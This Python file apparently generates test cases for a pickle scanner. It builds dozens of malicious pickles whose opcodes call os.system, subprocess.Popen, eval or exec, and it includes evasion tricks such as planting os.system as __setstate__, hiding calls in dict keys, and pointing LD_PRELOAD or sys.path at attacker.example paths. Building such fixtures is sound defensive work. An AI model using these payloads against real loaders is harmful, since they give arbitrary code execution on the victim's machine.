"""Every opcode that can call something, with the callables attackers like best."""

from assemble import *
from .case import CODE, COMMAND, pickle

SYSTEM, POPEN = ('posix', 'system'), ('subprocess', 'Popen')
EVAL, EXEC, IMPORT = ('builtins', 'eval'), ('builtins', 'exec'), ('builtins', '__import__')
ARGUMENT = {SYSTEM: COMMAND, POPEN: COMMAND, EVAL: CODE, EXEC: CODE, IMPORT: 'some_private_pkg'}


def quoted(value):
    return string_line(b'"' + value.encode() + b'"')


def called(callee):
    return '.'.join(callee)


for callee, argument in ARGUMENT.items():
    short = callee[1].strip('_').lower()
    pickle(f'reduce-{short}-p0', f'Protocol 0: GLOBAL and REDUCE call {called(callee)}.', called(callee),
           old_call(global_(*callee), quoted(argument)) + STOP)
    pickle(f'reduce-{short}-p4', f'Protocol 4: STACK_GLOBAL and REDUCE call {called(callee)}.', called(callee),
           proto(4) + frame(call(stack_global(*callee), text(argument)) + STOP))
    pickle(f'inst-{short}-p0', f'INST names and calls {called(callee)} in one opcode.', called(callee),
           inst(*callee, quoted(argument)) + STOP)
    pickle(f'obj-{short}-p1', f'OBJ calls {called(callee)}, which lies behind the MARK.', called(callee),
           obj(global_(*callee), long_text(argument)) + STOP)

pickle('reduce-os-system-p2', 'Protocol 2 names os itself instead of posix.', 'os.system',
       proto(2) + global_('os', 'system') + long_text(COMMAND) + TUPLE1 + REDUCE + STOP)
pickle('reduce-nt-system-p3', 'The Windows spelling of os.system.', 'nt.system',
       proto(3) + global_('nt', 'system') + long_text(COMMAND) + TUPLE1 + REDUCE + STOP)
pickle('reduce-eval-p5', 'Protocol 5 and a frame around a call of eval.', 'builtins.eval',
       proto(5) + frame(call(stack_global(*EVAL), text(CODE)) + STOP))
pickle('newobj-popen-p2', 'NEWOBJ makes a subprocess.Popen, and BUILD gives it a state.', 'subprocess.Popen',
       proto(2) + global_(*POPEN) + tuple_of(long_text(COMMAND)) + NEWOBJ + dict_of((long_text('args'), long_text(COMMAND)))
       + BUILD + STOP)
pickle('newobj-popen-p4', 'NEWOBJ of subprocess.Popen by STACK_GLOBAL.', 'subprocess.Popen',
       proto(4) + frame(stack_global(*POPEN) + tuple_of(text(COMMAND)) + NEWOBJ + STOP))
pickle('newobj-ex-popen-p4', 'NEWOBJ_EX of subprocess.Popen with keyword arguments.', 'subprocess.Popen',
       proto(4) + stack_global(*POPEN) + tuple_of(text(COMMAND)) + dict_of((text('shell'), NEWTRUE)) + NEWOBJ_EX + STOP)
pickle('newobj-eval-p4', 'NEWOBJ of eval, which has no __new__ of its own: an odd call that nobody writes in good faith.', 'builtins.eval',
       proto(4) + stack_global(*EVAL) + tuple_of(text(CODE)) + NEWOBJ + STOP)
pickle('newobj-map-new', 'map.__new__ and bytes.__new__ by NEWOBJ call os.system without any REDUCE.',
       'builtins.map builtins.bytes posix.system',
       proto(4) + stack_global('builtins', 'bytes')
       + (stack_global('builtins', 'map') + tuple_of(stack_global(*SYSTEM), EMPTY_LIST + text(COMMAND) + APPEND) + NEWOBJ)
       + TUPLE1 + NEWOBJ + STOP)
pickle('newobj-ex-map-new', 'The same by NEWOBJ_EX.', 'builtins.map builtins.bytes posix.system',
       proto(4) + stack_global('builtins', 'bytes')
       + tuple_of(stack_global('builtins', 'map')
                  + tuple_of(stack_global(*SYSTEM), EMPTY_LIST + text(COMMAND) + APPEND) + EMPTY_DICT + NEWOBJ_EX)
       + EMPTY_DICT + NEWOBJ_EX + STOP)
pickle('build-setstate-planted', 'BUILD plants os.system as __setstate__ of an object, the next BUILD calls it: no REDUCE.',
       'posix.system',
       proto(4) + stack_global('argparse', 'Namespace') + EMPTY_TUPLE + NEWOBJ
       + tuple_of(NONE, dict_of((text('__setstate__'), stack_global(*SYSTEM)))) + BUILD + text(COMMAND) + BUILD + STOP)
pickle('build-setstate-escaped', 'The same with __setstate__ written in escapes, as protocol 0 allows.',
       'posix.system', proto(2) + global_('collections', 'OrderedDict') + EMPTY_TUPLE + NEWOBJ
       + tuple_of(NONE, dict_of((string_line(b"'\\x5f\\x5fsetstate\\x5f\\x5f'"), global_(*SYSTEM)))) + BUILD
       + long_text(COMMAND) + BUILD + STOP)
pickle('build-append-planted', 'BUILD plants os.system as append of an object, APPEND calls it.', 'posix.system',
       proto(4) + stack_global('argparse', 'Namespace') + EMPTY_TUPLE + NEWOBJ
       + dict_of((text('append'), stack_global(*SYSTEM))) + BUILD + text(COMMAND) + APPEND + STOP)
pickle('build-add-planted', 'BUILD plants os.system as add of an object, ADDITEMS calls it.', 'posix.system',
       proto(4) + stack_global('argparse', 'Namespace') + EMPTY_TUPLE + NEWOBJ
       + dict_of((text('add'), stack_global(*SYSTEM))) + BUILD + MARK + text(COMMAND) + ADDITEMS + STOP)
pickle('build-on-function', 'BUILD writes attributes of numpy.size, a function of a module, so that it hands out eval.',
       'numpy.size numpy.__builtins__',
       proto(4) + stack_global('numpy', 'size') + MEMOIZE
       + tuple_of(NONE, dict_of((text('shape'), stack_global('numpy', '__builtins__')))) + BUILD + POP
       + call(call(get(0), get(0), text('eval')), text(CODE)) + STOP)
pickle('build-on-exec', 'BUILD on exec, with a state that would become attributes of it.', 'builtins.exec',
       proto(4) + stack_global(*EXEC) + dict_of((text('__doc__'), text(CODE))) + BUILD + STOP)
pickle('build-sys-modules', 'BUILD puts the modules table into a numpy function.', 'numpy.prod sys.modules',
       proto(4) + stack_global('numpy', 'prod') + stack_global('sys', 'modules') + BUILD + STOP)
pickle('setitems-environ', 'SETITEMS writes into os.environ, a global.', 'os.environ',
       proto(4) + stack_global('os', 'environ') + MARK + text('LD_PRELOAD') + text('/tmp/attacker.example.so') + SETITEMS + STOP)
pickle('setitem-sys-modules', 'SETITEM replaces a module in sys.modules.', 'sys.modules',
       proto(4) + stack_global('sys', 'modules') + text('json') + NONE + SETITEM + STOP)
pickle('appends-sys-path', 'APPENDS adds a folder to sys.path, a global.', 'sys.path',
       proto(4) + stack_global('sys', 'path') + MARK + text('/tmp/attacker.example') + APPENDS + STOP)
pickle('append-on-function', 'APPEND on a function of atexit, with os.system as the item.', 'atexit.register posix.system',
       proto(4) + stack_global('atexit', 'register') + stack_global(*SYSTEM) + APPEND + STOP)
pickle('additems-global', 'ADDITEMS calls add on a global.', 'logging.root',
       proto(4) + stack_global('logging', 'root') + MARK + stack_global(*SYSTEM) + ADDITEMS + STOP)
pickle('reduce-then-pop', 'The result of os.system is thrown away at once and a clean dict is left.', 'posix.system',
       proto(4) + call(stack_global(*SYSTEM), text(COMMAND)) + POP + dict_of((text('weight'), float_(0.5))) + STOP)
pickle('obj-then-pop', 'OBJ calls os.system and POP forgets it.', 'posix.system',
       proto(4) + obj(stack_global(*SYSTEM), text(COMMAND)) + POP + EMPTY_LIST + STOP)
pickle('inst-then-pop-mark', 'The call lies behind a MARK that POP_MARK throws away.', 'posix.system',
       MARK + inst(*SYSTEM, quoted(COMMAND)) + POP_MARK + EMPTY_DICT + STOP)
pickle('reduce-list-arguments', 'REDUCE with a list for arguments, which the loader written in Python accepts.', 'posix.system',
       proto(4) + stack_global(*SYSTEM) + EMPTY_LIST + text(COMMAND) + APPEND + REDUCE + STOP)
pickle('reduce-arguments-from-memo', 'The arguments come out of the memo, far from the call.', 'posix.system',
       proto(2) + tuple_of(long_text(COMMAND)) + put(7) + POP + global_(*SYSTEM) + get(7) + REDUCE + STOP)
pickle('reduce-dup', 'DUP copies os.system before it is called.', 'posix.system',
       proto(4) + stack_global(*SYSTEM) + DUP + tuple_of(text(COMMAND)) + REDUCE + TUPLE2 + STOP)
pickle('reduce-hidden-in-dict-key', 'The call makes a key of an otherwise plain dict.', 'posix.system',
       proto(4) + dict_of((text('a'), integer(1)), (call(stack_global(*SYSTEM), text(COMMAND)), integer(2))) + STOP)
pickle('reduce-in-frozenset', 'The call makes an item of a frozenset.', 'posix.system',
       proto(4) + MARK + call(stack_global(*SYSTEM), text(COMMAND)) + FROZENSET + STOP)
pickle('import-then-eval', 'Two steps: __import__ and then eval.', 'builtins.__import__ builtins.eval',
       proto(4) + call(stack_global(*IMPORT), text('os')) + POP + call(stack_global(*EVAL), text(CODE)) + STOP)
pickle('build-setstate-late', 'A state tuple is built with while its dict is empty, the dict is given __setstate__, and the same tuple is built with again.',
       'posix.system', proto(4) + stack_global('argparse', 'Namespace') + EMPTY_TUPLE + NEWOBJ + put(0)
       + tuple_of(NONE, EMPTY_DICT + put(1)) + put(2) + BUILD + POP
       + get(1) + text('__setstate__') + stack_global(*SYSTEM) + SETITEM + POP
       + get(0) + get(2) + BUILD + text(COMMAND) + BUILD + STOP)
